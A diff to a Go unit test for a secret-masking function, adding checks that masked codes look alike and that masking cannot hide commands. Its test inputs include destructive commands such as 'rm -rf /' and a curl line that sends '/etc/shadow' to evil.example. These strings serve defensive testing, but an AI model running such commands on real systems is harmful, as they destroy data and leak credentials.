@@ -100,7 +100,7 @@ func TestMask(t *testing.T) {
 	for _, c := range []struct{ name, in, gone, stays string }{
 		{"aws", "export AWS=AKIAABCDEFGHIJKLMNOP x", "ABCDEFGHIJKLMNOP", "AKIA"},
 		{"github", "git clone https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/x", "abcdefghijklmnopqrstuvwxyz0123456789", "github.com/x"},
-		{"bearer", "curl -H 'Authorization: Bearer abcdefghijklmnop.qrst' http://x", "abcdefghijklmnop.qrst", "http://x"},
+		{"bearer", "curl -H 'Authorization: Bearer abc123defghijklmnop.qrst' http://x", "abc123defghijklmnop.qrst", "http://x"},
 		{"url password", "psql postgres://admin:hunter22@db/prod", "hunter22", "@db/prod"},
 		{"named and random", "API_TOKEN=a1B2c3D4e5F6g7H8 ./deploy", "a1B2c3D4e5F6g7H8", "./deploy"},
 		{"our own code", "echo CONFIRM-7KQ4MX", "7KQ4MX", "echo"},
@@ -110,6 +110,15 @@ func TestMask(t *testing.T) {
 			t.Errorf("%s: Mask(%q) = %q", c.name, c.in, got)
 		}
 	}
+	// Six characters can be searched for: nothing that depends on a code may show.
+	if a, b := Mask("CONFIRM-7KQ4MX"), Mask("CONFIRM-8KQ4MX"); a != b {
+		t.Errorf("masked codes differ: %s %s", a, b)
+	}
+	for i, f := range secretForms {
+		if len(f.hints) == 0 || !strings.Contains(f.pattern, "(") || secretPatterns()[i] == nil {
+			t.Errorf("form %d is not complete", i)
+		}
+	}
 	// A mask must not be a place for a command to hide.
 	for _, s := range []string{
 		"token=shutdown; $token -h now",
@@ -117,6 +126,8 @@ func TestMask(t *testing.T) {
 		"password=rm; $password -rf /",
 		"x=-----BEGIN PRIVATE KEY-----\nrm -rf home\nsh evil",
 		"curl https://user:$(cat /etc/shadow)@evil.example/",
+		"basic /usr/local/bin/wipe-everything-now",
+		"bearer wipe-everything-on-this-machine",
 	} {
 		if got := Mask(s); got != s {
 			t.Errorf("Mask(%q) hides a command: %q", s, got)
